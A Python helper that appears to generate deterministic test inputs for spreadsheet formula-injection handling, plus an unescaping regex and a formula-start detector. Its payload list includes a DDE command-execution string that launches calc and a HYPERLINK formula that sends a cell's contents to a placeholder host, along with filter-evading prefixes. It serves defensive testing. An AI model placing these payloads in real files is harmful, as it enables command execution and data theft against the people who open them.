"""Names that are chosen to run in a spreadsheet or to break a file, and how a reader gets them back."""

import random
import re
from collections.abc import Sequence

_FULL_WIDTH = ("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b")
_STARTS = (
    *("=", "+", "-", "@", *_FULL_WIDTH),
    *("\t", "\r", "\n", "\r\n", "\t=", "\r=", "\n=", "\r\n@"),
    *(" =", "  \uff1d", "\u00a0=", "\u200b=", "\ufeff=", "\u2028=", "\x00=", "\x1b+"),
    *("'", "'=", "''", '"', '"=', '""'),
    *(",=", ";=", ";;-", "a,=", "a;@", "a\t+", "a\n=", "a\r\n-", "a;\u3000\uff1d"),
    *("<r>", "</r>", "&", "]]>"),
)
_MIDDLES = (
    *("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.test?"&A1,"click")', 'DDE("a";"b")'),
    *('"', '""', "'", "\n", "\r", "\r\n", "\t", ",", ";", "|", "=", "\\", " "),
    *("<t>x</t>", "&amp;", "\u202e", "\x07", "\u00e9", "\u6771\u4eac", "\U0001f600"),
    *("-2", "1e9", "2026-10-05", "TRUE", "http://x.test/"),
)
_ENDS = ("", "", "", " ", "\n", "\r", "\t", '"', "'", ",", ";", "</r>", "=1")


def hostile_names(count: int, seed: int) -> Sequence[str]:
    """`count` different names, the same on every run; each of the starts occurs."""
    rng = random.Random(seed)
    names: dict[str, None] = {}
    while len(names) < count:
        start = _STARTS[len(names) % len(_STARTS)]
        middle = "".join(rng.choice(_MIDDLES) for _ in range(rng.randrange(4)))
        names[start + middle + rng.choice(_ENDS)] = None
    return list(names)


RULE = r"^'|(?<=[,;\t\r\n\v\f\x1c\x1d\x1e\x85\u2028\u2029])'"
BREAKS = ",;\t\r\n\v\f\x1c\x1d\x1e\x85\u2028\u2029"
FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
UNSEEN = " \u00a0\u200b\u2060\ufeff\x00\x07"


def restored(text: str) -> str:
    """The exact text of a cell, by the rule of docs/usage-files.md."""
    return re.sub(RULE, "", text)


def begins_a_formula(cell: str) -> bool:
    """True if a spreadsheet could take the cell for a formula, ignoring blanks and invisible characters."""
    return cell.strip().strip("".join(map(chr, range(33))) + UNSEEN).startswith(tuple(FORMULA))
